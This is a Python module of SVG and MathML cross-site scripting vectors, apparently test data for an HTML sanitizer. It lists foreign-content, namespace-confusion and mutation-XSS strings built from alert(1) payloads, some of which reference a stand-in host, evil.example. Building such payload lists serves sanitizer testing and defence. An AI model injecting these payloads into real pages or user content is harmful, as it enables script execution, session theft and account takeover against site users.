"""Vectors of foreign content: SVG, MathML, and texts that change their namespace when they are parsed again."""

_BAIT = "<img src=x onerror=alert(1)>"
_RAW = (
    "style",
    "title",
    "textarea",
    "script",
    "noscript",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "listing",
)
_SVG = [
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg/onload=alert(1)>", "<svg><g onload=alert(1)></g></svg>", "<svg><a href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>", "<svg><set onbegin=alert(1) attributeName=x></svg>",
    "<svg><animateTransform onbegin=alert(1) attributeName=x></svg>", "<svg><animateMotion onbegin=alert(1) dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:alert(1) /></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><image href=x onerror=alert(1)></svg>", "<svg><feImage href=https://evil.example/p /></svg>", "<svg><discard onbegin=alert(1)></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><style>@import 'https://evil.example'</style></svg>", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><handler type=text/javascript>alert(1)</handler></svg>", "<svg><listener event=load handler=#x /></svg>",
    "<svg xmlns:e=http://www.w3.org/2001/xml-events><e:x/></svg>", "<svg></p><img src=x onerror=alert(1)>", "<svg></br><img src=x onerror=alert(1)>",
    "<svg><p><img src=x onerror=alert(1)>", "<svg><font color=x><img src=x onerror=alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<svg><!--><img src=x onerror=alert(1)>--></svg>", "<svg><image xlink:href=javascript:alert(1)>",
    "<svg><view viewTarget=javascript:alert(1)>", "<svg><metadata onload=alert(1)><x/></metadata></svg>", "<svg><mpath href=javascript:alert(1)></svg>",
]  # fmt: skip
_MATH = [
    "<math href=javascript:alert(1)>x</math>", "<math><mrow href=javascript:alert(1)>x</mrow></math>", "<math xlink:href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml><svg onload=alert(1)></annotation-xml></math>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mi><svg onload=alert(1)></mi></math>", "<math><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mtext><mglyph><svg><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><table><mi><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mn><table><malignmark><style><!--</style><a title='--><img src=x onerror=alert(1)>'>", "<math><mo></p><img src=x onerror=alert(1)>",
    "<math><semantics><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></semantics></math>",
    "<math><style><!--</style><img src=x onerror=alert(1)>--></style></math>", "<math><ms><b><xmp></xmp><img src=x onerror=alert(1)></b></ms></math>",
    "<math><x xmlns=http://www.w3.org/1999/xhtml><script>alert(1)</script></x></math>", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
]  # fmt: skip
# A raw text element whose content another namespace, or a parser without scripts, reads as markup.
_CHANGING = [
    f"<{space}><{raw}><a title='</{raw}>{_BAIT}'></{raw}></{space}>"
    for space in ("svg", "math")
    for raw in _RAW
]
_NESTED = [
    f"<svg></p><style><a id='</style>{_BAIT}'>", f"<math></br><style><a id='</style>{_BAIT}'>", f"<svg><desc><table><svg><style><a title='</style>{_BAIT}'>",
    f"<svg><foreignObject><math><mtext><style><a title='</style>{_BAIT}'>", f"<math><annotation-xml><svg><title><a title='</title>{_BAIT}'>",
    f"<table><svg><td><style><a title='</style>{_BAIT}'>", f"<select><svg><style><a title='</style>{_BAIT}'></select>",
    f"<b><svg><p><b><style><a title='</style>{_BAIT}'>", f"<template><svg><style><a title='</style>{_BAIT}'></template>",
    f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--><!--{_BAIT}'>", f"<a><svg><a><style><a title='</style>{_BAIT}'>",
    f"<noscript><svg><style><a title='</style></noscript>{_BAIT}'>", f"<p><svg><table><p><style><a title='</style>{_BAIT}'>",
    "<svg><b><table><x><svg><style>" * 9 + f"<a title='</style>{_BAIT}'>", f"<form><div></form><svg><form><style></form>{_BAIT}",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>{_BAIT}", f"<html:img xmlns:html=x src=x onerror=alert(1) />{_BAIT}",
]  # fmt: skip
VECTORS = [*_SVG, *_MATH, *_CHANGING, *_NESTED]
